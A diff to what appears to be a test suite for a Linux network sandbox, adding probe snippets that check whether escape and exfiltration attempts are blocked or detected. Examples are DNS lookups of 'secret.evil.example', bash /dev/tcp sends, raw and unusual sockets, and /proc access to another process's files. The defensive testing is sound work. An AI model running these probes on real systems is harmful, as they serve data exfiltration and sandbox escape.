@@ -20,6 +20,9 @@ C = "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); libc.syscall.r
 QUERY = "b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4evil\\7example\\0\\0\\1\\0\\1'"
 ROUTE = f"b'\\x83\\7\\4' + socket.inet_aton('{OUT}') + b'\\0'"
 DEVICE = "socket.if_nametoindex('eth0').to_bytes(4, sys.byteorder)"
+OPEN = "import os; os.dup2(os.open(HELPER, os.O_PATH), 999)\n"
+# The kernel's table of Unix sockets has one on each line, with its name as it is.
+LINES = "import tempfile\nn = socket.socket(1); n.bind(tempfile.mkdtemp() + '/x\\n0 1 2 3 4 5 none z')\n"
 CURL, CURL_OUT = "curl -sk -m 60", "curl -sk -m 5"  # the latter where nobody answers
 
 
@@ -187,6 +190,22 @@ print(libc.syscall(307 if os.uname().machine == 'x86_64' else 269, u.fileno(), m
     "loopback by a device of one message, ipv6": (CLOSED, refused(f"socket.socket(10, 2).sendmsg([b'x'], [(41, 50, bytes(16) + {DEVICE})], 0, ('::1', 4433))")),
     "a port of the machine's that nobody serves": (way.LOCAL, f"{UDP}u.sendto(b'x', ('10.0.0.2', 30053))"),
     "from a network of its own to the machine's address": (way.OTHER_NETWORK, "sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; bash -c \"echo x >/dev/udp/10.0.0.2/4433\"'"),
+    "connected to port 0": (CLOSED, refused(f"u = socket.socket(type=2); u.connect(('{OUT}', 0)); u.send(b'x')")),
+    "connected to port 0, ipv6": (CLOSED, refused(f"u = socket.socket(10, 2); u.connect(('{OUT6}', 0)); u.send(b'x')")),
+    "a closed port that answers to another machine": (CLOSED, refused(f"u = socket.socket(10, 2); u.setsockopt(41, 78, 1); u.bind(('{OUT6}', 5555)); u.sendto(b'x', ('::1', 9))")),
+    "a closed port that resets to another machine": (CLOSED, refused(f"s = socket.socket(10); s.setblocking(False); s.setsockopt(41, 75, 1); s.bind(('{OUT6}', 5556)); s.connect_ex(('::1', 9))")),
+    "a closed port that resets to another machine, ipv4": (CLOSED, refused(f"s = socket.socket(); s.setblocking(False); s.setsockopt(0, 19, 1); s.bind(('{OUT}', 5557)); s.connect_ex(('10.0.0.2', 9))")),
+    "another machine's address without a right": (CLOSED, refused(f"u = socket.socket(type=2); u.setsockopt(0, 15, 1); u.bind(('{OUT}', 5558))")),
+    "ipv4 at a socket of ipv6": (way.DATAGRAMS, f"{C}{UDP6}libc.sendto(u.fileno(), b'x', 1, 0, b'\\2\\0' + (4433).to_bytes(2) + socket.inet_aton('{OUT}') + bytes(8), 16)"),
+    "corked": (way.DATAGRAMS, f"{UDP}u.sendto(b'x', 0x8000, ('{OUT}', 4433)); u.send(b'y')"),
+    "spliced": (way.DATAGRAMS, f"import os\n{UDP}u.connect(('{OUT}', 4433)); r, w = os.pipe(); os.write(w, b'x'); os.splice(r, u.fileno(), 1)"),
+    "an empty one": (way.DATAGRAMS, f"{UDP}u.sendto(b'', ('{OUT}', 4433))"),
+    "to everybody": (way.DATAGRAMS, f"{UDP}u.setsockopt(1, 6, 1); u.sendto(b'x', ('255.255.255.255', 4433))"),
+    "link-local": (way.DATAGRAMS, f"{UDP6}u.sendto(b'x', ('fe80::1', 4433, 0, socket.if_nametoindex('eth0')))"),
+    "ipv4 in ipv6, by a translator": (way.DATAGRAMS, f"{UDP6}u.sendto(b'x', ('64:ff9b::cb00:7209', 4433))"),
+    "a look for services": (way.DATAGRAMS, f"{UDP}u.sendto(b'M-SEARCH * HTTP/1.1', ('239.255.255.250', 1900))"),
+    "llmnr": (way.DATAGRAMS, f"{UDP}u.sendto({QUERY}, ('224.0.0.252', 5355))"),
+    "a program that nobody may read": (way.DATAGRAMS, f"{C}{UDP}libc.prctl(4, 0, 0, 0, 0); u.sendto(b'x', ('{OUT}', 4433))"),
     "a group": (way.JOINED, f"{UDP}u.setsockopt(0, 35, socket.inet_aton('239.1.2.3') + bytes(4))"),
     "a group, ipv6": (way.JOINED, f"{UDP6}u.setsockopt(41, 20, socket.inet_pton(10, 'ff15::5ec2:e7') + bytes(4))"),
 }  # fmt: skip
@@ -198,6 +217,10 @@ LOOKUPS: dict[str, tuple[str, str]] = {
     "a resolver of one's own": (way.LOOKUP, f"{UDP}u.sendto({QUERY}, ('{OUT}', 53))"),
     "a resolver of one's own, connected": (way.LOOKUP, f"import os\n{UDP}u.connect(('{OUT}', 53)); os.write(u.fileno(), {QUERY})"),
     "a resolver by ipv6": (way.LOOKUP, f"{UDP6}u.sendto({QUERY}, ('{OUT6}', 53))"),
+    "an alias": (way.LOOKUP, "sh:a=$(mktemp); echo 'zz secret.evil.example' >$a; HOSTALIASES=$a getent hosts zz"),
+    "a domain of one's own": (way.LOOKUP, "sh:LOCALDOMAIN=secret.evil.example getent hosts zz"),
+    "by tcp": (way.LOOKUP, "sh:RES_OPTIONS=use-vc timeout 2 getent hosts secret.evil.example"),
+    "of an address": (way.LOOKUP, "\ntry: socket.gethostbyaddr('203.0.114.8')\nexcept OSError: pass"),
     "systemd's stub": (way.LOOKUP, f"{UDP}u.sendto({QUERY}, ('127.0.0.53', 53))"),
     "systemd's socket": (CLOSED, refused("socket.socket(1).connect('/run/systemd/resolve/io.systemd.Resolve')")),
     "nscd": (CLOSED, refused("socket.socket(1).connect('/run/nscd/socket')")),
@@ -222,6 +245,14 @@ OTHERS: dict[str, tuple[str, str]] = {
     "a helper, datagrams from where a thread alone is": (way.LOCAL, in_a_thread("datagrams", 2)),
     "a helper, by a link that moves": (way.LOCAL, "import os, tempfile\nd = tempfile.mkdtemp(); l = socket.socket(1, 2); l.bind(d + '/own'); os.symlink(d + '/own', d + '/to')\n"
         "s = socket.socket(1, 2); s.sendto(b'x', d + '/to'); os.unlink(d + '/to'); os.symlink(HELPER + '/datagrams', d + '/to'); s.sendto(b'x', d + '/to')"),
+    "a helper, datagrams by what it has open": (way.UNREADABLE, f"{OPEN}socket.socket(1, 2).sendto(b'x', '/proc/self/fd/999/datagrams')"),
+    "a helper, datagrams by what it has open as a device": (way.UNREADABLE, f"{OPEN}socket.socket(1, 2).sendto(b'x', '/dev/fd/999/datagrams')"),
+    "a helper, datagrams by what a thread has open": (way.UNREADABLE, f"{OPEN}socket.socket(1, 2).sendto(b'x', '/proc/thread-self/fd/999/datagrams')"),
+    "a helper, datagrams by a link to what it has open": (CLOSED, f"import tempfile\n{OPEN}d = tempfile.mkdtemp(); os.symlink('/proc/self/fd/999', d + '/x')\n"
+        + refused("socket.socket(1, 2).sendto(b'x', d + '/x/datagrams')")),
+    "a helper that is slow, by what it has open": (way.LOCAL, f"import signal; signal.alarm(3)\n{OPEN}{UNIX}s.connect('/proc/self/fd/999/slow')"),
+    "a helper, beside names with lines": (way.LOCAL, f"{LINES}{stream('HELPER + \"/stream\"')}"),
+    "a helper, datagrams beside names with lines": (way.LOCAL, f"{LINES}socket.socket(1, 2).sendto(b'x', HELPER + '/datagrams')"),
     "a helper, abstract and no text": (way.LOCAL, "s = socket.socket(1, 2); s.sendto(b'x', b'\\0\\xff\\xfehelper')"),
     "a helper, abstract with a NUL": (way.LOCAL, "s = socket.socket(1, 2); s.sendto(b'x', b'\\0tele\\0mock')"),
     "a helper, by the name of the accounts' service": (way.LOCAL, "import os; d = HELPER + '/jail/run/systemd/userdb'; os.makedirs(d); os.link(HELPER + '/stream', d + '/x'); os.chroot(HELPER + '/jail')\n"
@@ -230,6 +261,8 @@ OTHERS: dict[str, tuple[str, str]] = {
     "a helper, by the name of an own one in another network": (way.LOCAL, "import os, tempfile, time\nif not sys.argv[1:]: os.execvp('unshare', ['unshare', '-rn', sys.executable, __file__, 'x'])\n"
         "r, w = os.pipe(); k = os.fork()\nif not k:\n  d = tempfile.mkdtemp(); os.makedirs(d + HELPER); os.chroot(d); l = socket.socket(1); l.bind(HELPER + '/stream'); l.listen(); os.write(w, b'x'); l.accept()\n"
         "os.read(r, 1); s = socket.socket(1); s.connect(HELPER + '/stream'); s.send(b'x'); time.sleep(1); os.kill(k, 9)"),
+    "a helper, by the bus's name in mounts of its own": (way.LOCAL, "import os, subprocess\nif not sys.argv[1:]: os.execvp('unshare', ['unshare', '-rm', sys.executable, __file__, 'x'])\n"
+        "bus = '/run/dbus/system_bus_socket'; subprocess.run(['mount', '--bind', HELPER + '/stream', bus], check=True)\n" + stream("bus")),
     "docker": (way.DAEMON, stream("HELPER + '/docker.sock'")),
     "containerd": (way.DAEMON, stream("HELPER + '/containerd.sock'")),
     "the message bus": (way.LOCAL, stream("'/run/dbus/system_bus_socket'")),
@@ -258,8 +291,16 @@ SOCKETS: dict[str, tuple[str, str]] = {
     "sctp": socket_of(2, 1, 132), "udp-lite": socket_of(2, 2, 136), "dccp": socket_of(2, 6, 33),
     "vsock": socket_of(40, 1), "bluetooth": socket_of(31, 1, 3), "can": socket_of(29, 3, 1),
     "tipc": socket_of(30, 2), "xdp": socket_of(44, 3), "smc": socket_of(43, 1), "rds": socket_of(21, 5),
+    "smc as a protocol": socket_of(2, 1, 256), "l2tp": socket_of(2, 2, 115), "pppox": socket_of(24, 2),
+    "rxrpc": socket_of(33, 2, 2), "kcm": socket_of(41, 5), "mctp": socket_of(45, 2), "qrtr": socket_of(42, 2),
+    "icmp, ipv6": socket_of(10, 3, 58), "raw": socket_of(2, 3, 255), "x25": socket_of(9, 5),
     "netlink to another program": (CLOSED, refused("socket.socket(16, 3, 2)")),
     "the audit": (CLOSED, refused("socket.socket(16, 3, 9)")),
+    "a tunnel": (CLOSED, refused("import os, fcntl; fcntl.ioctl(os.open('/dev/net/tun', os.O_RDWR), 0x400454ca, b'x0' + bytes(14) + b'\\1\\0' + bytes(22))")),
+    "questions that another answers": (CLOSED, f"{C}import struct, sys\nop = lambda code, value, then=0: struct.pack('=HBBI', code, 0, then, value)\n"
+        "code = op(0x20, 0) + op(0x15, 44, 1) + op(6, 0x7fc00000) + op(6, 0x7fff0000); kept = ctypes.create_string_buffer(code)\n"
+        "given = struct.pack('@HP', 4, ctypes.addressof(kept)); libc.prctl(38, 1, 0, 0, 0)\n"
+        "sys.exit(7 if libc.syscall(317 if os.uname().machine == 'x86_64' else 277, 1, 8, given) < 0 else 0)"),
     "io_uring": (CLOSED, calls(425, 8, "ctypes.create_string_buffer(120)")),
     "a network of its own": (way.OTHER_NETWORK, f"sh:unshare -rn sh -c 'ip link set lo up; ip route add default dev lo; timeout 2 bash -c \"echo x >/dev/tcp/{OUT}/443\"'"),
     "an interface": (CLOSED, "sh:ip link add v0 type vxlan id 5 remote 203.0.114.9 dstport 4789 || exit 7"),
@@ -278,6 +319,8 @@ PROCESSES: dict[str, tuple[str, str]] = {
     "another user": (way.DATAGRAMS, f"sh:setpriv --reuid=65534 --clear-groups bash -c 'echo x >/dev/udp/{OUT}/4433'"),
     "another program's memory": (CLOSED, refused("open(f'/proc/{VICTIM}/mem', 'r+b').close()")),
     "another program, traced": (CLOSED, calls("101 if os.uname().machine == 'x86_64' else 117", 16, "VICTIM", 0, 0)),
+    "another program's files": (CLOSED, refused("import os; os.open(f'/proc/{VICTIM}/fd/1', os.O_WRONLY)")),
+    "another program's root": (CLOSED, refused("import os; os.listdir(f'/proc/{VICTIM}/root/')")),
     "another program's memory, by a call": (CLOSED, f"{C}import sys\nb = ctypes.create_string_buffer(b'x', 1)\n"
         "l = (ctypes.c_ulong * 2)(ctypes.addressof(b), 1); r = (ctypes.c_ulong * 2)(MEMORY, 1)\n"
         "sys.exit(7 if libc.process_vm_writev(VICTIM, l, 1, r, 1, 0) < 0 else 0)"),
@@ -306,50 +349,4 @@ WAYS = {
         "other programs": OTHERS, "sockets": SOCKETS, "processes": PROCESSES,
     }.items()
     for name, row in rows.items()
-}  # fmt: skip
-
-HARMLESS: dict[str, str] = {
-    "true": "sh:true",
-    "ssl": "import ssl, http.client, urllib.request; ssl.create_default_context()",
-    "ls": "sh:ls -l / >/dev/null",
-    "git": "sh:cd $(mktemp -d) && git init -q . && git add -A && git -c user.name=a -c user.email=a@b commit -qm x --allow-empty && git status",
-    "a compiler": "sh:cd $(mktemp -d) && echo 'int main(void) { return 0; }' >a.c && gcc a.c && ./a.out",
-    "make": "sh:cd $(mktemp -d) && printf 'a: b\\n\\tcp b a\\nb:\\n\\techo b >b\\n' >Makefile && make -j4",
-    "sqlite": "sh:sqlite3 :memory: 'select 1'",
-    "accounts": "import pwd, grp, os; pwd.getpwall(); pwd.getpwuid(os.getuid()); grp.getgrall()",
-    "an unknown account": "sh:id nobody-of-that-name; true",
-    "a log without a daemon": "import syslog; syslog.syslog('x')",
-    "localhost": "socket.getaddrinfo('localhost', 80)",
-    "a server of its own": "s = socket.create_server(('127.0.0.1', 0)); c = socket.create_connection(s.getsockname()); c.send(b'x')",
-    "a server of its own by http": "import http.server, threading, urllib.request\n"
-        "s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), http.server.SimpleHTTPRequestHandler)\n"
-        "threading.Thread(target=s.serve_forever, daemon=True).start()\n"
-        "urllib.request.urlopen(f'http://127.0.0.1:{s.server_port}/').read()",
-    "go's servers, which want multipath tcp": "import contextlib\nwith contextlib.suppress(OSError): socket.socket(2, 1, 262)",
-    "a server that is slow to take": "import threading\nl = socket.create_server(('127.0.0.1', 0), backlog=0)\n"
-        "t = [threading.Thread(target=lambda: socket.socket().connect(l.getsockname())) for _ in range(6)]\n[x.start() for x in t]\n"
-        "for _ in t: l.accept()\n[x.join() for x in t]",
-    "kernel events": "s = socket.socket(16, 2, 15); s.bind((0, 1)); socket.socket(16, 3, 0); socket.if_nameindex()",
-    "a server of a child's": "sh:cd $(mktemp -d) && python3 -m http.server -b 127.0.0.1 8099 >/dev/null 2>&1 & s=$!\n"
-        "for i in 1 2 3 4 5 6 7 8 9; do sleep .3; curl -s http://127.0.0.1:8099/ >/dev/null && break; done; kill $s",
-    "a server of its own, on every address": "for f, to in ((2, '127.0.0.1'), (2, '10.0.0.2'), (10, '::1'), (10, 'fd00::2')):\n"
-        "  s = socket.create_server(('', 0), family=f); c = socket.create_connection((to, s.getsockname()[1]), 5); c.send(b'x'); print(s.accept()[0].recv(1))",
-    "a server of its own, ipv6": "s = socket.create_server(('::1', 0), family=10); socket.create_connection(s.getsockname()[:2])",
-    "a unix server of its own": "import tempfile; at = tempfile.mkdtemp() + '/s'\n"
-        "l = socket.socket(1); l.bind(at); l.listen(); s = socket.socket(1); s.connect(at); s.send(b'x'); print(l.accept()[0].recv(1))",
-    "an abstract server of its own": "l = socket.socket(1); l.bind('\\0own'); l.listen(); s = socket.socket(1); s.connect('\\0own')",
-    "datagrams of its own": f"{UDP}u.bind(('127.0.0.1', 0)); socket.socket(type=2).sendto(b'x', u.getsockname())",
-    "multiprocessing": "import multiprocessing as m\nif __name__ == '__main__':\n  with m.get_context('spawn').Pool(2) as p: print(p.map(abs, [-1, 2]))",
-    "asyncio": "import asyncio\nasync def f():\n  p = await asyncio.create_subprocess_exec('true'); await p.wait()\nasyncio.run(f())",
-    "pairs": "a, b = socket.socketpair(); socket.send_fds(a, [b'x'], [0]); a.sendmsg([b'x'])",
-    "node": "sh:node -e \"const s = require('net').createServer(c => c.end()).listen(0, '127.0.0.1', () => require('net').connect(s.address().port).on('close', () => s.close()).resume())\"",
-    "perl": "sh:perl -e 'use Socket; socketpair(A, B, AF_UNIX, SOCK_STREAM, 0) or die'",
-    "interfaces": "sh:ip addr >/dev/null; ip route >/dev/null",
-    "the kernel's ciphers": "import contextlib\nwith contextlib.suppress(OSError): socket.socket(38, 5)",
-    "closed ports": f"socket.socket().connect_ex(('127.0.0.1', 9)); {UDP}u.sendto(b'x', ('127.0.0.1', 9))",
-    "a debugger": "sh:gdb -q -batch -ex run --args true >/dev/null",
-    "strace": "sh:strace -f -o /dev/null sh -c true",
-    "pipes": "sh:seq 9 | sort | head -1 | cat",
-    "a sandbox": "sh:unshare -r true",
-    "random and time": "import os, time, tempfile, threading; os.urandom(9); time.time(); threading.Thread(target=print).start()",
 }  # fmt: skip
